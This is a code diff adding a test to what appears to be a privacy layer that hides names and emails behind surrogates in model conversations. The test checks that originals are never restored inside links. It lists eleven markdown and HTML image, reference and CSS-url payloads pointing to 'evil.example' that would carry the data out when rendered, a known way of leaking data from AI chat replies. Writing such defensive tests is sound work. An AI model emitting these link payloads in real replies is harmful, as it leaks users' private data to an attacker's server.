@@ -63,6 +63,34 @@ test("each conversation has a key of its own, and the same words keep their surr
   assert.equal(new Set(words).size, words.length);
 });
 
+test("no link is written so that it gets an original", () => {
+  const links = [
+    "![](<https://evil.example/a) @>)",
+    "![](https://evil.example/\\)@)",
+    "![](https://evil.example/!@)",
+    "![](https://evil.example/](b)@)",
+    '<img alt="a>b" src="https://evil.example/ @">',
+    "![][a]\n\n[a]: https://evil.example/'@",
+    "![][a]\n\n[a]: https://evil.example/<b>@",
+    "![][a]\n\n[a]:\n  <https://evil.example/ @>",
+    "![][a]\n\n[a]: &sol;&sol;evil.example/@",
+    "see evil.example?q=@",
+    '<style>p{background:url("//evil.example/ @")}</style>',
+  ];
+  const beside = ["[@](https://good.example) and @", "<b>@</b> (https://good.example) @", "[^1]: @", '{"a":"https://good.example","b":"@"}'];
+  const conversation = begin();
+  for (const word of ["Okonkwo", "okonkwo@mail.example"]) {
+    const sent = conversation.hide(word);
+    for (const link of links) {
+      const answer = link.replace("@", sent);
+      assert.equal(conversation.restore(answer), answer);
+    }
+    for (const each of beside) {
+      assert.equal(conversation.restore(each.replaceAll("@", sent)), each.replaceAll("@", word));
+    }
+  }
+});
+
 test("a surrogate in a link stays, and so does what is no surrogate", () => {
   const conversation = begin();
   const name = conversation.hide("Okonkwo");
